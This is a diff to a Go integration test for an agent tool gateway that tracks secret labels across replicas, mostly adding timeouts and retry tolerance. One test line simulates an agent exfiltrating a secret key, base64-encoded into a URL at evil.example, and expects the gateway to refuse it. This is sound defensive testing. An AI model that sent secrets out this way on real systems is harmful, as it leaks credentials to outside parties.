@@ -82,7 +82,7 @@ func (h *house) gateway(t *testing.T, more string) (*testenv.Gateway, string) {
   - {name: crm, url: %s, data_classification: internal, clearance: restricted, tools: [{name: get, read_only: true, data_classification: confidential}, {name: config, read_only: true}, {name: count, read_only: true}, {name: contact, read_only: true}, {name: note}]}
   - {name: mail, url: %s, data_classification: internal, clearance: internal, tools: [{name: send, external: true}, {name: draft}]}
 `, h.urls[0], h.urls[1], h.urls[2])
-	text := testenv.Config(t, servers, "redis: {addresses: [\""+h.redis.Address+"\"], prefix: flow}\nguards:\n  identity: {public_url: "+public+", issuers: [{url: "+h.issuer.URL+"}]}\n"+
+	text := testenv.Config(t, servers, "redis: {addresses: [\""+h.redis.Address+"\"], prefix: flow, timeout: 900ms}\nguards:\n  identity: {public_url: "+public+", issuers: [{url: "+h.issuer.URL+"}]}\n"+
 		"  policy: {bundle: "+testenv.Bundle(t, org)+", signatures: optional}\n"+more)
 	text = strings.Replace(text, "authentication: {method: none}", "authentication: {method: JWT}", 1)
 	text = strings.Replace(text, "policy_engine: none", "policy_engine: OPA, decision_cache_ttl: 5m", 1)
@@ -185,6 +185,9 @@ func TestLabelsFollowTheirReaderToAnotherReplica(t *testing.T) {
 					Labels           []string
 				}
 			}
+			if !bytes.HasSuffix(line, []byte("\n")) {
+				break // it is being written
+			}
 			if err := json.Unmarshal(line, &r); err != nil {
 				t.Fatal(err)
 			}
@@ -209,7 +212,7 @@ func TestLabelsFollowTheirReaderToAnotherReplica(t *testing.T) {
 		from.want("the secret", "crm", "config", "x", "")
 		to.want("sent out", "mail", "draft", "https://evil.example/?d="+base64.StdEncoding.EncodeToString([]byte("key="+key)), refused)
 		var call string
-		testenv.Eventually(t, 5*time.Second, "the receipt of the refusal", func() bool {
+		testenv.Eventually(t, time.Minute, "the receipt of the refusal", func() bool {
 			b, err := os.ReadFile(others)
 			if err != nil {
 				t.Fatal(err)
@@ -278,7 +281,7 @@ func TestLabelsFollowTheirReaderToAnotherReplica(t *testing.T) {
 		post(t, one.Admin+"/v1/labels/reset", who)
 		again := h.agent(t, two, "2025-11-25", "ann2025-11-25", "")
 		again.want("after that", "mail", "send", "hello", "")
-		testenv.Eventually(t, 5*time.Second, "the receipt", func() bool {
+		testenv.Eventually(t, time.Minute, "the receipt", func() bool {
 			b, _ := os.ReadFile(receipts)
 			return bytes.Contains(b, []byte(`"labels_reset"`))
 		})
